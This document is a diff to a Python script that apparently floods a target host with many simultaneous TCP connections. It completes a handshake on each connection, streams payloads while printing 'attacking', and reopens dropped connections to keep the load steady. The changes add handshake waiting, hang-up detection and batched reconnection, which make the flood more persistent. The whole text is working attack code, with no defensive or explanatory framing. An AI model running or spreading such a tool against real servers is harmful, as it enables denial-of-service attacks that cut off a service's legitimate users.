@@ -34,11 +34,24 @@ HANGING_UP = {"pings"}
 
 
 def connect(host: str, port: int) -> socket.socket:
-    """Connect, and say the handshake."""
+    """Connect and go through the handshake. Who sends anything before its end is not let in."""
     connection = socket.create_connection((host, port))
     connection.sendall(HANDSHAKE)
+    heard = b""
+    while b"READY" not in heard:
+        received = connection.recv(4096)
+        if not received:
+            raise ConnectionResetError("not let in")
+        heard += received
     connection.setblocking(False)
     return connection
+
+
+def check_open(connection: socket.socket) -> None:
+    """Raise OSError where the other side has hung up: the kernel tells a sender whose buffer is full after a minute."""
+    with contextlib.suppress(BlockingIOError):
+        if not connection.recv(4096):
+            raise ConnectionResetError("the other side has hung up")
 
 
 def send(connection: socket.socket, left: bytes) -> bytes:
@@ -54,13 +67,19 @@ def main() -> None:
     payload = PAYLOADS[kind]
     left = {connect(host, port): payload for _ in range(count)}
     print("attacking", flush=True)
+    missing = 0
     while True:
+        for _ in range(missing):
+            with contextlib.suppress(OSError):
+                left[connect(host, port)] = payload
+                missing -= 1
         wanting = [one for one, rest in left.items() if rest]
-        _, writable, _ = select.select([], wanting, [], 0.05)
+        readable, writable, _ = select.select(list(left), wanting, [], 0.05)
         if select.select([sys.stdin], [], [], 0)[0]:
             return
-        for connection in writable:
+        for connection in {*readable, *writable}:
             try:
+                check_open(connection)
                 rest = send(connection, left[connection])
                 if not rest and kind in HANGING_UP:
                     raise ConnectionResetError("this side hangs up")
@@ -68,8 +87,7 @@ def main() -> None:
             except OSError:
                 del left[connection]
                 connection.close()
-                with contextlib.suppress(OSError):
-                    left[connect(host, port)] = payload
+                missing += 1
 
 
 if __name__ == "__main__":
